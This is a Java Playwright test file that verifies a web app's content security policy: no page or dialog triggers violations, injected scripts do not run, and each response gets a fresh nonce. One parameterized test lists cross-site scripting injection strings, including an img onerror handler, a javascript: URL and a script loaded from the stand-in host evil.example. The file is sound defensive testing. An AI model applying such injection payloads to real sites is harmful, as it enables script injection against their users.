package org.panelwatch.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The content security policy: our pages never offend against it, and a script put into one does not run. */
class PolicyIT extends Browsing {

    private static final String COLLECT = """
            window.offences = [];
            addEventListener('securitypolicyviolation', (offence) =>
              offences.push(offence.violatedDirective + ' ' + offence.blockedURI + ' ' + offence.sample), true);
            """;

    private Page watched(String path) {
        BrowserContext browser = profile(new Browser.NewContextOptions().setViewportSize(1280, 900));
        browser.addInitScript(COLLECT);
        Page page = browser.newPage();
        page.navigate(path);
        waitForCharts(page);
        return page;
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/",
                "/outcomes",
                "/sanctions?tab=table",
                "/appeals",
                "/cases",
                "/cases/metropolitan-2021-001",
                "/forces",
                "/forces/kent",
                "/official",
                "/data",
                "/methods",
                "/figures/outcome-flow",
                "/nowhere"
            })
    void noPageOffendsAgainstIt(String path) {
        assertThat(watched(path).evaluate("offences.join()")).isEqualTo("");
    }

    @Test
    void filtersDialogsAndMenusDoNotOffendAgainstIt() {
        Page page = watched("/sanctions");
        page.getByText("More filters").click();
        page.getByLabel("As it stood on").click();
        page.keyboard().press("Escape");
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Share: "))
                .first()
                .click();
        assertThat(page.locator("vaadin-dialog copy-field").first()).isVisible();
        page.locator("vaadin-dialog copy-field button").first().click();
        assertThat(page.evaluate("offences.filter(offence => !offence.startsWith('img-src')).join()"))
                .isEqualTo("");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "const script = document.createElement('script'); script.textContent = 'window.broken = true';"
                        + " document.head.append(script);",
                "document.body.insertAdjacentHTML('beforeend', '<img src=\"nothing\" onerror=\"window.broken = true\">');",
                "const script = document.createElement('script'); script.src = 'http://evil.example/x.js';"
                        + " document.head.append(script);",
                "location.href = 'javascript:window.broken = true'"
            })
    void aScriptPutIntoThePageDoesNotRun(String attack) {
        Page page = watched("/methods");
        page.route("http://evil.example/**", route -> route.fulfill());
        page.evaluate(attack);
        page.waitForFunction("() => offences.length > 0");
        assertThat(page.evaluate("window.broken === undefined")).isEqualTo(true);
    }

    @Test
    void everyRequestHasANonceOfItsOwn() {
        Page page = open("/methods");
        String first = page.request().get(site() + "/methods").headers().get("content-security-policy");
        String second = page.request().get(site() + "/methods").headers().get("content-security-policy");
        assertThat(first).contains("'nonce-").doesNotContain("script-src 'self' 'unsafe-inline'");
        assertThat(second).contains("'nonce-").isNotEqualTo(first);
    }
}
